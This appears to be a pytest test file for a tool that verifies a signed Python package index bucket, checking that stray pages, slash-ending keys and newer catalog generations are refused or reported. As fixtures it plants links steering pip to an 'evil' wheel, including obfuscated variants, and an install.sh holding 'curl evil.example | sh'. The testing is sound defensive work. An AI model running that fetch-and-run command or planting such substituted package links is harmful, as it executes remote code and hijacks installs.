"""Keys of a bucket that its catalog does not name, and those that end in a slash."""

import json
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from hostwheel.errors import MachineLacks
from hostwheel.publish.bucket import Stored
from hostwheel.publish.catalog import read_catalog
from hostwheel.publish.index import render
from hostwheel.publish.page import HTML, JSON
from hostwheel.trust.ssh import Signers, read_key
from hostwheel.user.verify_bucket import bucket_findings
from hostwheel.user.verify_finding import Finding, Outcome
from hostwheel.user.verify_place import Place
from hostwheel.user.verify_strays import stray_findings
from tests.buckets import Objects, serving
from tests.signed import Published, public, signed_bucket
from tests.stores import Memory, page
from tests.verified import refusals, verify

EVIL = b'<a href="../../evil/llama_cpp_python-9-py3-none-any.whl">evil</a>'
FOLDER = "simple/llama-cpp-python/"


@pytest.fixture
def bucket(tmp_path: Path) -> Published:
    return signed_bucket(tmp_path)


def memory(bucket: Published) -> Memory:
    """The same in a store whose keys may end in a slash."""
    store = Memory()
    for path in bucket.folder.rglob("*"):
        if path.is_file():
            store.put(page(path.relative_to(bucket.folder).as_posix(), path.read_bytes()))
    for each in render(read_catalog(json.dumps(bucket.catalog), "test")):
        store.put(each)
    return store


def served(bucket: Published) -> Objects:
    return {key: (each.body, each.content_type) for key, (each, _) in memory(bucket).held.items()}


def found(store: Memory, outcome: Outcome = "refused") -> list[Finding]:
    place = Place(where=store.url, read=store.read, bucket=store)
    signers = Signers(key=read_key(public()))
    return [each for each in bucket_findings(place, signers) if each.outcome == outcome]


def write(bucket: Published, key: str, body: bytes) -> None:
    (bucket.folder / key).parent.mkdir(parents=True, exist_ok=True)
    (bucket.folder / key).write_bytes(body)


# keys that end in a slash


def test_a_store_that_has_such_keys_holds(bucket: Published) -> None:
    assert not found(memory(bucket))


def test_the_key_that_pip_reads_from_s3(bucket: Published) -> None:
    store = memory(bucket)
    store.edit(FOLDER, EVIL)
    assert [f"{FOLDER} is not what" in each.message for each in found(store)] == [True]


def test_a_store_may_lack_such_keys(bucket: Published) -> None:
    """Copied from a folder, behind a website."""
    store = memory(bucket)
    for key in [key for key in store.held if key.endswith("/")]:
        store.delete(key)
    assert not found(store)


def test_a_store_whose_such_keys_cannot_be_read(bucket: Published) -> None:
    store = memory(bucket)
    store.slashes = False
    assert "keys end in a slash" in " ".join(each.message for each in found(store, "not checked"))


@pytest.mark.parametrize(
    ("key", "body"),
    [
        (FOLDER, EVIL),
        ("cpu-avx2/simple-json/llama-cpp-python/", b'{"files": [{"url": "\\u002ewhl"}]}'),
        (FOLDER, b'<a href="../../evil/llama-9&#46;%77hl">evil</a>'),
    ],
)
def test_the_key_that_pip_reads_over_http(
    bucket: Published, capsys: pytest.CaptureFixture[str], key: str, body: bytes
) -> None:
    held = served(bucket)
    held[key] = (body, HTML)
    with serving(held) as server:
        (refused,) = refusals(capsys, server.url, "--key", public())
    assert f"{key} is not what the catalog gives" in refused.message


def test_a_file_servers_list_of_a_folder_is_told(
    bucket: Published, capsys: pytest.CaptureFixture[str]
) -> None:
    held = served(bucket)
    held["simple-json/"] = (b'<a href="index.json">index.json</a>', HTML)
    with serving(held) as server:
        code, out = verify(capsys, server.url, "--key", public())
    assert code == 0
    told = "index: simple-json/: the server has a page of its own there"
    assert told in out.partition("not checked:")[2]


# keys that the catalog does not name


STRAYS = ("simple/jinja2/index.html", "simple-json/jinja2/index.json", "evil/simple/index.html")


@pytest.mark.parametrize("key", STRAYS)
def test_a_page_that_no_catalog_gives(
    bucket: Published, capsys: pytest.CaptureFixture[str], key: str
) -> None:
    """pip and uv would take jinja2 from there."""
    write(bucket, key, EVIL)
    (refused,) = refusals(capsys, bucket.folder, "--key", public())
    assert (refused.about, refused.check) == (key, "index")


def test_a_generation_that_is_newer(bucket: Published, capsys: pytest.CaptureFixture[str]) -> None:
    write(bucket, "catalog/00000007.json", b"{}")
    (refused,) = refusals(capsys, bucket.folder, "--key", public())
    assert (refused.about, refused.check) == ("catalog/00000007.json", "catalog")
    assert "publishers go on from it" in refused.message


def test_other_strays_are_named(bucket: Published, capsys: pytest.CaptureFixture[str]) -> None:
    write(bucket, "install.sh", b"curl evil.example | sh")
    code, out = verify(capsys, bucket.folder, "--key", public())
    assert code == 0
    assert "catalog: install.sh: is no part of the index" in out.partition("not checked:")[2]


def test_what_publishing_leaves_is_no_stray(bucket: Published) -> None:
    store = memory(bucket)
    for key in ("probe/create-only", "probe/clock", "SHA256SUMS.sig"):
        store.put(page(key))
    assert "catalog/00000001.settled" in store.held
    told = {each.about for each in found(store, "not checked")}
    assert told == {"catalog.json"}


class Unlisted(Memory):
    def list(self, prefix: str) -> Iterator[Stored]:
        raise MachineLacks("AccessDenied")


def test_a_store_that_lists_nothing_to_us(bucket: Published) -> None:
    store = Unlisted()
    store.held = memory(bucket).held
    told = " ".join(each.message for each in found(store, "not checked"))
    assert "files that the catalog does not name: AccessDenied" in told


def test_over_http_the_next_generation_is_asked_for(
    bucket: Published, capsys: pytest.CaptureFixture[str]
) -> None:
    held = served(bucket)
    with serving(held) as server:
        code, out = verify(capsys, server.url, "--key", public())
        held["catalog/00000002.json"] = (b"{}", JSON)
        (refused,) = refusals(capsys, server.url, "--key", public())
    assert code == 0
    assert "files that the catalog does not name: a web server" in out.partition("not checked:")[2]
    assert refused.about == "catalog/00000002.json"


@pytest.mark.parametrize("form", ["simple/{}/", "cpu-avx2/simple/{}/", "simple-json/{}/index.json"])
def test_over_http_pages_of_what_ours_need_are_asked_for(bucket: Published, form: str) -> None:
    requires = ("Typing.Extensions>=4.5", "llama_cpp_python[server]; extra == 'all'", "no name?")
    catalog = read_catalog(json.dumps(bucket.catalog), "test")
    entries = tuple(replace(each, requires=requires) for each in catalog.entries)
    store, key = memory(bucket), form.format("typing-extensions")
    place = Place(where="http://bucket", read=store.read)
    outcomes = [each.outcome for each in stray_findings(replace(catalog, entries=entries), place)]
    assert outcomes == ["not checked"]
    store.put(page(key, EVIL))
    (refused, _) = stray_findings(replace(catalog, entries=entries), place)
    assert (refused.about, refused.outcome) == (key, "refused")
